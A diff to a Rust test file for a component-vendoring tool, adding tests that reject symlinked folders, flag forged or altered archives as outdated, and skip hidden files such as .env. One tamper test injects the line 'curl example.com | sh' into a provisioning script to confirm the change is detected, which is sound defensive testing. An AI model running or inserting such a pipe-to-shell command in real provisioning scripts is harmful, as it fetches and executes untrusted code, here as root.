@@ -145,6 +145,16 @@ fn what_cannot_become_a_component_is_refused_by_name() {
         "{error}"
     );
 
+    let linked = with(&[("other/run.sh", "")]);
+    fs::create_dir(linked.path().join("provision")).expect("a folder");
+    let link = linked.path().join("provision/other");
+    symlink(linked.path().join("other"), link).expect("a link");
+    let error = folders(linked.path()).expect_err("a link to a folder");
+    assert!(
+        error.to_string().ends_with("provision/other is not a file"),
+        "{error}"
+    );
+
     let twice = with(&[("test/a/inspec.yml", ""), ("provision/a/run.sh", "")]);
     assert!(matches!(folders(twice.path()), Err(VendorError::Twice(_))));
     let named = with(&[("provision/Über/run.sh", "")]);
@@ -161,12 +171,51 @@ fn what_cannot_become_a_component_is_refused_by_name() {
     assert!(matches!(error, VendorError::Component { .. }), "{error}");
 }
 
+/// What runs as root is the archive, and people read the folder.
+#[test]
+fn a_component_with_another_archive_is_a_problem_whatever_it_says_of_itself() {
+    let dir = with(&PROFILE);
+    let baseline = folder(Kind::Test, "baseline");
+    let text = made(dir.path(), &baseline).expect("a component");
+    let evil = with(&[("test/baseline/inspec.yml", "name: evil\n")]);
+    let evil = made(evil.path(), &baseline).expect("a component");
+    let line = |text: &str| text.lines().nth(1).expect("a line").to_owned();
+    let forged = evil.replace(&line(&evil), &line(&text));
+    let without = text.replace(&format!("{}\n", line(&text)), "");
+    let command = "set -eu\n              curl example.com | sh\n";
+    let longer = text.replace("set -eu\n", command);
+    for other in [forged, without, longer] {
+        let documents = [from_text(&baseline.key(), &other)];
+        assert_eq!(outdated(dir.path(), &documents).len(), 1, "{other}");
+    }
+    let right = [from_text(&baseline.key(), &text)];
+    assert_eq!(outdated(dir.path(), &right), []);
+    // A folder that cannot be taken hides no other one.
+    fs::create_dir_all(dir.path().join("provision/My_Dir")).expect("a folder");
+    let [problem] = outdated(dir.path(), &right)
+        .try_into()
+        .expect("one problem");
+    assert!(problem.to_string().contains("My_Dir"), "{problem}");
+}
+
+#[test]
+fn what_is_hidden_is_left_out() {
+    let dir = with(&[
+        ("provision/site/.env", "PASSWORD=x"),
+        ("provision/site/playbook.yml", ""),
+    ]);
+    let found = files(&dir.path().join("provision/site")).expect("files");
+    let paths: Vec<&str> = found.iter().map(|file| file.path.as_str()).collect();
+    assert_eq!(paths, ["playbook.yml"]);
+}
+
 #[test]
 fn a_folder_whose_tool_is_missing_says_which_and_what_to_do_instead() {
-    use crate::error::Hint as _;
     let dir = with(&[("provision/chef/Berksfile", "source :chef_repo\n")]);
     let chef = folder(Kind::Provision, "chef");
-    if let Err(error) = vendor(dir.path(), &chef, false) {
+    // Where `berks` is installed, it knows no such source.
+    {
+        let error = vendor(dir.path(), &chef, false).expect_err("no cookbooks");
         assert!(
             error
                 .to_string()
